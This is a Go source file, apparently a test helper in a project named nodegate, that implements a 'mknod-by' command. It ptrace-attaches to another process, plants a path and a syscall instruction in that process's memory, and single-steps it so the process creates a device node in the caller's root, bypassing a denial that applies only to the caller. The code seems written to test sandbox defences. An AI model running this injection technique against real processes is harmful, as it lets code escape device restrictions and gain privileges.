// SPDX-FileCopyrightText: The nodegate authors
// SPDX-License-Identifier: Apache-2.0

//go:build amd64

package main

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"

	"golang.org/x/sys/unix"
)

// mknodBy has another process make a node in this one's root: an attack on a denial
// that this process has and the other has not.
func mknodBy(args []string) (string, error) {
	if len(args) < 3 {
		return "", usageError("mknod-by takes PID and what mknod takes")
	}
	victim, err := strconv.Atoi(args[0])
	if err != nil {
		return "", usageError(fmt.Sprintf("%q is no process", args[0]))
	}
	n, err := parseNode(args[1:])
	if err != nil {
		return "", err
	}
	runtime.LockOSThread()
	self, err := os.Readlink("/proc/thread-self")
	if err != nil {
		return "", err
	}
	n.path = "/proc/" + self + "/root" + n.path
	if err := unix.PtraceAttach(victim); err != nil {
		return "", os.NewSyscallError("ptrace", err)
	}
	defer func() { _ = unix.PtraceDetach(victim) }()
	if _, err := unix.Wait4(victim, nil, unix.WALL, nil); err != nil {
		return "", os.NewSyscallError("wait4", err)
	}
	if err := dropPtrace(); err != nil {
		return "", err
	}
	return "ok", n.makeBy(victim)
}

// dropPtrace gives up the capability by which the other process may have been
// stopped: it can follow a way into this one's root only if it has all that this
// one has.
func dropPtrace() error {
	head := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var sets [2]unix.CapUserData
	if err := unix.Capget(&head, &sets[0]); err != nil {
		return os.NewSyscallError("capget", err)
	}
	sets[0].Effective &^= 1 << unix.CAP_SYS_PTRACE
	sets[0].Permitted &^= 1 << unix.CAP_SYS_PTRACE
	return os.NewSyscallError("capset", unix.Capset(&head, &sets[0]))
}

// makeBy writes the path on the stack of a stopped process and a system call where it
// stands, lets it run that one instruction, and puts everything back.
func (n node) makeBy(victim int) error {
	var was, now unix.PtraceRegs
	if err := unix.PtraceGetRegs(victim, &was); err != nil {
		return os.NewSyscallError("ptrace", err)
	}
	path := (stackPointer(&was) - 4096) &^ 15
	at, old := programCounter(&was), make([]byte, len(syscallInstruction))
	_, err1 := unix.PtracePeekText(victim, at, old)
	_, err2 := unix.PtracePokeData(victim, path, append([]byte(n.path), 0))
	_, err3 := unix.PtracePokeText(victim, at, syscallInstruction)
	defer func() {
		_, _ = unix.PtracePokeText(victim, at, old)
		_ = unix.PtraceSetRegs(victim, &was)
	}()
	err := errors.Join(err1, err2, err3, callMknodat(victim, was, path, n.mode, n.dev), unix.PtraceSingleStep(victim))
	if err != nil {
		return err
	}
	if _, err := unix.Wait4(victim, nil, unix.WALL, nil); err != nil {
		return os.NewSyscallError("wait4", err)
	}
	if err := unix.PtraceGetRegs(victim, &now); err != nil {
		return os.NewSyscallError("ptrace", err)
	}
	if got := result(&now); got < 0 {
		return &os.PathError{Op: "mknodat by another process", Path: n.path, Err: unix.Errno(-got)}
	}
	return nil
}
